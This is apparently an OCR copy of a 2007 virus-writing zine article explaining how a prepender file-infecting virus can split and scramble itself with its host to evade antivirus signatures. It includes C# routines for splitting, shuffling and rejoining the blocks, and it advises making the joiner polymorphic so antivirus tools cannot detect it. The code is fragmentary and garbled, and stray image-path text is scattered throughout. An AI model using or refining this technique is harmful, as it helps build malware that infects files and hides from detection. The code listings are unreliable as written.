File Splitting and Joining In Viruses by free0n
               File Mixing and Jumbling InViruses
                             by free0n/[DoomRiderz]
0) Introduction

1) How it works

2) The Mixing

3) The Jumbling

4) Conclusion

0) Introduction

   This article is a introduction to a technique known as file mixing. The
   idea is based on a concept of dynamically splitting the file into random
   sections and joining the code back for a successful execution. The technique
   is meant to be used as a stealth tactic that can be used most effectively for
   file infection viruses. This concept is mostly an idea butit is possible and
   has been done before.

1) How it works

   The mixing and jumbling is a pretty basic concept and very effective the
   idea is that you have you have your virus split itself into many small
   sections these small sections are then jumbled or scrambled. Keeping any
   identification of a signature or position of a signature almost impossible toFor example we have a prepender virus. Prepender viruses work by putting
   the code or executable portion at the first part of the file. So when the
   file is launched the virus is executed, the virus runs and then reads itself
   and launches the original program it's attached to.

   Figure 1.         Figure 2.      Figure 3.
   -===-       -===-    -===-
   |  virus  |       | joiner  |    | joiner  |
   -===-       -===-    -===-
   |  host   |       | virus   |    |  virus  |
   -===-       -===-    |   +     |
                                    |  host   |Now this basically works by having the virus when ran, search for suitable
   files that can be infected. So in our example of the prepender we will have
   it infect executable files in the current directory. The virusthen instead
   of automatically inserting it's code at the top. Splits the file into small
   sections. The virus then does the same thing. Once it's split it can randomly
   sort the bytes into an order that can be randomly chosen. Depending on the
   size of the file will depend on how many different splits you can do. Once
   the virus and the host are split and randomly sorted they are mixed in a
   random order and encrypted and written to a temporaryfile.

   So what the expected result will look like will be something like this:
   Figure 4.
   [ virus]    or   [  host ]
   [ host ]         [  host ]                               [   joiner  ]
   [ virus]         [ virus ]   becomes  [ virus + host ] = [ virus+host]
   [ host ]         [  host ]
   [ virus]         [ virus ]
   [ host ]         [ virus ]

   The outcome of the different sections and where are chosen at random. The
   point of which is to make them scrambled. The temporary file which we created
   is then merged to the original file that the virus is infecting.

   The second part is writing the joiner application.The joiner is the part that
   knows what parts belong to the virus and which parts belong to the host. It
   also has to have the ability to decrypt the binary data in the file and be
   polymorphic. Which means that no variables in the joiner should bethe
   same, method or function names should change, the body should change and if
   possible make sure that code used in the joiner either takes names of common
   variable names or the data is encrypted each time. If you can't make the
   joiner application undetectable it's sure not going to with stand av.
   They may not be able to find a signature on your virus but they will find a
   signature on your joiner if you aren't careful.

   2) The Mixing

   Below I will demonstrate a method that can split the file and the host and
   will write our temporary executable. The method Split is passed two byte
   arrays which contain the bytes of the executable to be infected (hostByte)
   and the bytes of the virus (myBytes). We use the variable b to generate a
   random 16 number. Then divide it based on the file size. This should get us
   the size of each block like in Figure 4 [virus][host][virus].

   The next part is deciding which order they should be split and rejoined this
   order is kept in a string variable called "sequence" that we will write to
   our joiner. This and the variable int b are very important. Without it we
   will not be able to join the file and tell which part is what.

   private string Split(byte[] hostByte, byte[]myBytes)
    int b = RandSixTeen(hostByte.Length);//calculate how much to write each block
        int hblocksize = (hostByte.Length / b);
        int vblocksize = (myBytes.Length / b);

        //decide the sequence
    ArrayList arrShuffled  = ShuffleArrayList((b * 2));

        int i = 0;
        IEnumerator enumr = arrShuffled.GetEnumerator();
        string sequence = "";int av = 0;
        int ah = 0;

        int ev = vblocksize;
        int eh = hblocksize;
        string cmbName = myDir + slash + RandomWords() + ".exe";
        string sequence = "";
        FileStream fswHost = new FileStream(cmbName, FileMode.Create, FileAccess.Write);
        BinaryWriter bwHost = new BinaryWriter(fswHost);

    //we are going to loop through the array list and depending if the
        //the current value in the arraylist is 1 or 0 write the different parts
        //out. If it's 0 then we write the host, if it's 1 we write the virus

    while (enumr.MoveNext())
           if (enumr.Current.Equals(1))
              for (int j = av; j < ev; j++)
              av = ev;
              ev = ev + vblocksize;
              for (int j = ah; j < eh; j++)
              ah = eh;
              eh = eh + hblocksize;
           sequence += enumr.Current;return sequence;

   private int RandSixTeen(int s)
    int[] intArr = new int[64];
    int l = 63;
    for (int i = 0; i < intArr.Length; i++)
       intArr[i] = 16 * (i + 1);
       if (intArr[i] > s) {
            l = i - 1;
    Random r = new Random();
    return intArr[r.Next(0, l)];

   private ArrayList ShuffleArrayList(int n)
    //create an array list
    ArrayList arrList = new ArrayList();
    for (int i = 0; i < n; i++)
       if ((i % 2) == 0)

    //randomly sort the arraylist then return it
    Random rnd = new Random();
    for (int inx = arrList.Count - 1; inx > 0; --inx)
       int pos = rnd.Next(inx);
       object temp = arrList[inx];
       arrList[inx] = arrList[pos];
       arrList[pos] = temp;
    return arrList;

   Once the temporary file is written and created we can then merge it into the
   host file. The next step is writing the joiner which we will place at the top
   of the host file. So in the end it will look like Figure 4.

   3) The Jumbling

   The joining of two files is not that tricky. We are basically just reversing
   the alogrithm we used to join the two files. And instead of reading we are
   writing. We have to know 2 things. Which part is the virus and host, and how
   big are each block in the sequence. Luckly we saved our sequence and sequencesize in our variables.our sequence should look something like this:

   string sequence = "01010101010100001010111100101";

   a bunch of random 0's and 1's order in a weird way that should never be the
   same length or in the same order. The chance of that happening is extremely
   low. Now I won't go over the whole decryption and writing the joiner because
   depending on your programming language that will be a different approach. The
   reason why I use C# in this is because it's pretty obvious to read and under
   stand whats going on even if you've never coded C#..

   We have 1 method that gets passed four variables. One which is the sequence
   and the other which is the size of blocks. We have two byte arrays that will
   store the virus or the host bytes. When the sequence loop is done all we have
   to do is write the virus and the original program back out and execute it.

   private void Join(string sequence, int b, int mySize, int fileSize)
    FileStream fs = new FileStream(file);
        BinaryReader br = new BinaryReader(fs);
    CharEnumerator ce = sequence.GetEnumerator();
        int blocks = (b / 2);
        int hlength = (fileSize / blocks);
        int vlength = (mySize / blocks);

        byte[] hostBytes = new byte[hlength];
        byte[] virBytes = new byte[vlength];int vcount = 0;
    int hcount = 0;

    int vsize = vlength;
    int hsize = hlength;

               for(int f = vcount; f < vsize; f++)
                  virBytes[f] = br.ReadByte();
           vcount = vsize;
           vsize = vsize + vlength;for(int f = hcount; f < hsize; f++)
                  hostBytes[f] = br.ReadByte();
               hcount = hsize;
           hsize = hsize + hlength;

   The joiner then has both of the contents and can write out the byte arrays.
   First writing and executing the virus. Then when the virus is done executing
   the host to make sure the application doesn't get reinfected. After that the
   temporary files are deleted and everything completes.

   4) Conclusion

   At the time of writing this article. I have made a more full example of thismethod in a polymorphic virus called Baldr. The virus maybe confusing at
   first but it has almost the exact same code andtechnique for file splitting.
   Another idea to take this further is maybe hiding different portions of virus
   code in other files, making the code available on the Internet and performing
   get requests, or maybe findingnew ways to compress the joiners.

    ``Thus spake the master programmer:
    A well-written program is its own heaven; a poorly-written program is itsown hell.''  - Tao

   free0n- DoomRiderz
   01/01/2007 (Happy New Year!)